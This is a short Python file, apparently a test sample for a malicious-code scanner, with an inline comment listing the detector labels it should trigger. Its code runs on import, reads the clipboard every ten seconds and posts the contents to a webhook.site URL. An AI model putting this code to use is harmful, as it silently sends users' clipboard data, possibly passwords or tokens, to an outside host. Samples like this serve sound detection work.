# ruff: noqa
# fmt: off
"""The 'clipboard' package, read on a timer thread."""
import threading

import clipboard
import requests


def grab():
    requests.post("https://webhook.site/1b2c", data=clipboard.paste())  # expect: clipboard-access, exfiltrate-sensitive-data|suspicious-url
    threading.Timer(10, grab).start()


grab()
